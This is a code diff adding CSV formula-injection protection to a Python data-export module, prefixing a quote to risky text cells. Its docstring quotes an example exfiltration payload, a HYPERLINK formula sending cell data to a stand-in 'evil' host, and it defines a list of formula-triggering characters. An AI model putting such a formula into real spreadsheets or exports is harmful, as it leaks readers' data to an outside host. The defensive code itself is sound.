@@ -12,6 +12,7 @@ from __future__ import annotations
 import contextlib
 import csv
 import os
+import re
 import secrets
 from pathlib import Path
 from typing import IO, Any, Protocol
@@ -84,11 +85,11 @@ def refuse_special_file(path: Path) -> None:
                                "into place, which would replace it; give the path of a file")
 
 
-def open_sink(path: Path, fmt: str, columns: list[Column]) -> Sink:
+def open_sink(path: Path, fmt: str, columns: list[Column], *, csv_raw: bool = False) -> Sink:
     if fmt == "parquet":
         return ParquetSink(path, columns)
     if fmt == "csv":
-        return CsvSink(path, columns)
+        return CsvSink(path, columns, raw=csv_raw)
     if fmt == "jsonl":
         return JsonlSink(path, columns)
     raise ExportSetupError(f"unknown format {fmt!r}: one of {', '.join(FORMATS)}")
@@ -183,18 +184,43 @@ def _csv_value(value: Any) -> Any:
     return value
 
 
+#: How a text cell a spreadsheet would run as a formula begins (OWASP's list: ``=``, ``+``,
+#: ``-``, ``@``, a tab, a CR), and ``'``, the mark :func:`spreadsheet_text` adds, so that a
+#: cell beginning with it always had one added and the value is that cell less one ``'``.
+FORMULA_STARTS = frozenset("=+-@\t\r'")
+#: A plain number (``-3``, ``+0.5``, ``-1e-06``): a spreadsheet reads it as the number, runs nothing.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_text(value: str) -> str:
+    """``value`` as a spreadsheet shows it as text, not runs it: a ``'`` before a text cell
+    beginning with one of :data:`FORMULA_STARTS` that is no plain number. The spool's text
+    is what a model and a task set wrote: an answer ``=HYPERLINK("https://evil/?"&A1)``
+    opened in a spreadsheet runs there, with the reader's data."""
+    if value[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
 class CsvSink(_FileSink):
     """RFC 4180: a header row, CRLF line ends, fields quoted where they hold a comma, a quote, a CR or an LF;
-    an empty field is a missing value, ``true``/``false`` a boolean."""
+    an empty field is a missing value, ``true``/``false`` a boolean. A text cell a
+    spreadsheet would run as a formula begins with ``'`` (:func:`spreadsheet_text`) unless
+    ``raw``: a CSV is opened in a spreadsheet as often as read by a program."""
 
     _FILE = {"mode": "w", "encoding": "utf-8", "newline": "", "buffering": 1 << 20}
 
+    def __init__(self, path: Path, columns: list[Column], *, raw: bool = False) -> None:
+        self.plan = [(column.name, column.kind == TEXT and not raw) for column in columns]
+        super().__init__(path, columns)
+
     def _begin(self) -> None:
         self.writer = csv.writer(self.file, lineterminator="\r\n")  # so a lone \r in a field is quoted too
-        self.writer.writerow(self.names)
+        self.writer.writerow(self.names)  # fixed names, and metric:<name>: none begins as a formula
 
     def write(self, row: dict[str, Any]) -> None:
-        self.writer.writerow([_csv_value(row.get(name)) for name in self.names])
+        self.writer.writerow([spreadsheet_text(value) if text and value else _csv_value(value)
+                              for name, text in self.plan for value in (row.get(name),)])
 
 
 def arrow_schema(columns: list[Column]) -> Any:
